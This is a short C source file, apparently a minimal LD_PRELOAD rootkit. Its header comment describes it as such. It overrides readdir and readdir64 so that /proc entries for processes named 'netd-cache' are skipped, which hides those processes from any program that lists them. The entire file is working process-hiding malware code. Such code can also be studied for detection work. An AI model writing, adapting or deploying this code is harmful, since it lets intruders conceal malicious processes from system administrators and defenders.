/* What a preload rootkit does, and nothing else: once every program loads this library, the directory entries of processes with
   one name are left out of what they list. Files and processes themselves stay as they are. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define NAME "netd-cache"

static int is_hidden(const char *entry) {
  char path[64], comm[32];
  if (entry[0] < '0' || entry[0] > '9' || strlen(entry) > 10) return 0;
  snprintf(path, sizeof path, "/proc/%s/comm", entry);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t got = read(fd, comm, sizeof comm - 1);
  close(fd);
  if (got <= 0) return 0;
  comm[got] = 0;
  comm[strcspn(comm, "\n")] = 0;
  return strcmp(comm, NAME) == 0;
}

#define UNLIST(function, type)                                                     \
  struct type *function(DIR *directory) {                                          \
    static struct type *(*real)(DIR *);                                            \
    struct type *entry;                                                            \
    if (!real) real = (struct type * (*)(DIR *)) dlsym(RTLD_NEXT, #function);      \
    while ((entry = real(directory)) && is_hidden(entry->d_name)) continue;        \
    return entry;                                                                  \
  }
UNLIST(readdir, dirent)
UNLIST(readdir64, dirent64)
